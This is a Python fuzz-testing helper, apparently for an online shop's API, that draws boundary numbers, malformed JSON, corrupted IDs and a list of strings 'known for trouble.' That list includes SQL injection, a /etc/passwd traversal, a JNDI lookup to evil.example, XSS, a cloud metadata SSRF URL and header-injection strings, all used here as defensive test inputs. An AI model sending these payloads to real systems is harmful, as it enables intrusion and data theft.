"""Values that have broken somebody's server before."""

import json
import random
import string
from collections.abc import Callable, Sequence
from typing import Any
from uuid import UUID

from resolvers.global_ids import seal

TEXTS = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\x1b[31m",
    "\r\nX-Evil: 1",
    "\u202eevil",
    "\ufeff",
    "\uffff",
    "\U0010ffff",
    "\ud800",
    "\udfff\ud800",
    "e\u0301" * 40,
    "👩‍👩‍👧‍👦" * 20,
    "' OR 1=1 --",
    '"; DROP TABLE shop; --',
    "%",
    "%00",
    "%s%s%s%n",
    "_%_%",
    "\\",
    "\\u0000",
    "../../../../etc/passwd",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "null",
    "undefined",
    "NaN",
    "-1",
    "0x10",
    "1e309",
    "１２３",
    "true",
    "[]",
    "__proto__",
    "__schema",
    "9999-12-31T23:59:59.999999Z",
    "0000-00-00",
    "2026-02-30T25:61:61Z",
    "-271821-04-20T00:00:00Z",
    "2026-01-01T00:00:00+99:99",
    "a@b",
    "a" * 64 + "@example.com",
    '"@"@example.com',
    "eve@example.com\nBcc: all@example.com",
    "https://",
    "javascript:alert(1)",
    "http://[::1",
    "http://169.254.169.254/latest/meta-data",
    "en_US.UTF-8",
    "zh-Hans-CN-x-" + "a" * 50,
    "a" * 300,
    "界" * 1_000,
    "(" * 500,
    "a" * 20_000,
)
NUMBERS: tuple[float | int, ...] = (
    *(0, -1, 1, 2, 100, 101, 2**31 - 1, 2**31, -(2**31) - 1, 2**53 + 1, 2**63, 2**64, -(2**63)),
    *(10**30, -(10**30), 10**300, 0.1, -0.0, 1e-300, 1e308, 0.30000000000000004),
)
RAW_NUMBERS = (b"1e999", b"-1e999", b"NaN", b"Infinity", b"-0", b"00", b"1.", b".5", b"+1", b"0x1")
KINDS = (
    *("Shop", "Product", "ProductVariant", "Campaign", "CampaignItem", "Order", "Payment"),
    *("Staff", "Nothing", ""),
)


class Values:
    """Draws values; the same from the same generator."""

    def __init__(self, chance: random.Random, known_ids: Sequence[str]) -> None:
        self.chance = chance
        self.known_ids = known_ids

    def text(self) -> str:
        """Return a text that is known for trouble, one of our ids, or noise."""
        draw = self.chance.random()
        if draw < 0.55:
            return self.chance.choice(TEXTS)
        if draw < 0.8:
            return self.global_id()
        return "".join(chr(self.code_point()) for _ in range(self.chance.randrange(40)))

    def code_point(self) -> int:
        """Return a character's number, more often a small one."""
        return self.chance.choice(
            (
                self.chance.randrange(128),
                self.chance.randrange(0x3000),
                self.chance.randrange(0x110000),
            )
        )

    def global_id(self) -> str:
        """Return an id: of something there is, of nothing, or a broken one."""
        draw = self.chance.random()
        if draw < 0.4:
            return self.chance.choice(self.known_ids)
        sealed = seal(self.chance.choice(KINDS), UUID(int=self.chance.getrandbits(128)))
        if draw < 0.7:
            return sealed
        at = self.chance.randrange(len(sealed))
        return sealed[:at] + self.chance.choice(string.printable) + sealed[at + 1 :]

    def number(self) -> float | int:
        """Return a number at some edge."""
        return self.chance.choice(NUMBERS)

    def json(self, depth: int = 3) -> Any:
        """Return anything that JSON can say."""
        choices: list[Callable[[], Any]] = [
            self.text,
            self.number,
            lambda: None,
            lambda: self.chance.random() < 0.5,
        ]
        if depth:
            choices += [
                lambda: [self.json(depth - 1) for _ in range(self.chance.randrange(4))],
                lambda: {
                    self.text(): self.json(depth - 1) for _ in range(self.chance.randrange(4))
                },
            ]
        return self.chance.choice(choices)()

    def noise(self, most: int = 200) -> bytes:
        """Return random bytes."""
        return self.chance.randbytes(self.chance.randrange(1, most))

    def damaged(self, raw: bytes) -> bytes:
        """Return bytes with a few of them changed, lost or doubled."""
        damaged = bytearray(raw)
        for _ in range(self.chance.randrange(1, 6)):
            at = self.chance.randrange(len(damaged) + 1)
            match self.chance.randrange(4):
                case 0:
                    damaged[at : at + 1] = bytes([self.chance.randrange(256)])
                case 1:
                    del damaged[at : at + self.chance.randrange(1, 30)]
                case 2:
                    damaged[at:at] = self.noise(8)
                case _:
                    damaged[at:at] = damaged[at : at + self.chance.randrange(1, 60)]
        return bytes(damaged)


def encode(value: Any) -> bytes:
    """Return a value as JSON, lone surrogates and all."""
    return json.dumps(value).encode()
